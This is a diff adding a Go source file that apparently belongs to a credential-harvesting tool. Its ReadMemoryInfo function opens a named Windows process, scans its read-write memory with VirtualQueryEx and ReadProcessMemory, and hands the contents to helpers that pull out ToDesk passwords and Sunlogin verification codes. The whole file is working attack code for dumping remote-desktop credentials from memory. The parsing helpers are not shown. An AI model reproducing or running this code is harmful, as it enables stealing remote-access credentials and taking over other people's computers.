@@ -0,0 +1,82 @@
+package remotecontrol
+
+import (
+	"e0e1-config/pkg/i18n"
+	"e0e1-config/pkg/logger"
+	"golang.org/x/sys/windows"
+	"strings"
+	"unsafe"
+)
+
+func ReadMemoryInfo(keyword, processName string) map[string]string {
+	memoryInfoMap := make(map[string]string)
+	var passList []string
+	pid := uint32(getProcessPID(processName))
+	hProcess, err := windows.OpenProcess(windows.PROCESS_QUERY_INFORMATION|windows.PROCESS_VM_READ, false, pid)
+	if err != nil {
+		logger.Warn(i18n.Sprintf("无法打开进程: %v", err), "pid", pid)
+		return nil
+	}
+
+	defer func(handle windows.Handle) {
+		err := windows.CloseHandle(handle)
+		if err != nil {
+			logger.Debug(err.Error())
+		}
+	}(hProcess)
+
+	memoryInfo := windows.MemoryBasicInformation{}
+	var address uintptr = 0
+	var regionSize uintptr
+	for {
+		err = windows.VirtualQueryEx(hProcess, address, &memoryInfo, unsafe.Sizeof(memoryInfo))
+		if err != nil {
+			if keyword == KeywordsSun {
+				return memoryInfoMap
+			}
+			logger.Warn(i18n.Sprintf("无法查找内存: %v", err), "pid", pid)
+			return nil
+		}
+		if memoryInfo.State == windows.MEM_COMMIT {
+			protect := memoryInfo.Protect
+			switch protect {
+			case windows.PAGE_READWRITE, 0x20000:
+				buffer := make([]byte, memoryInfo.RegionSize)
+				bytesRead := uintptr(0)
+				err = windows.ReadProcessMemory(hProcess, memoryInfo.BaseAddress, &buffer[0], memoryInfo.RegionSize, &bytesRead)
+				if err != nil {
+					logger.Warn(i18n.Sprintf("无法读取内存: %v", err), "pid", pid)
+					return nil
+				}
+				if keyword == KeywordsToDesk {
+					passMap := getToDeskMemoryInfo(buffer)
+					if passMap != nil && len(passMap) > 0 {
+
+						for k, v := range passMap {
+							memoryInfoMap[k] = v
+						}
+
+						if len(passMap) == 2 || len(memoryInfoMap) > 0 {
+							return memoryInfoMap
+						}
+					}
+				} else if keyword == KeywordsSun {
+					passList, memoryInfoMap = getSunMemoryInfo(passList, memoryInfoMap, buffer)
+					passList = removeDuplicates(passList)
+					memoryInfoMap["验证码"] = strings.Join(passList, "\n")
+				}
+			}
+		}
+		regionSize = memoryInfo.RegionSize
+		if regionSize == 0 {
+			break
+		}
+		address = memoryInfo.BaseAddress + regionSize
+
+		if memoryInfo.RegionSize == 0 {
+			break
+		}
+	}
+
+	return memoryInfoMap
+}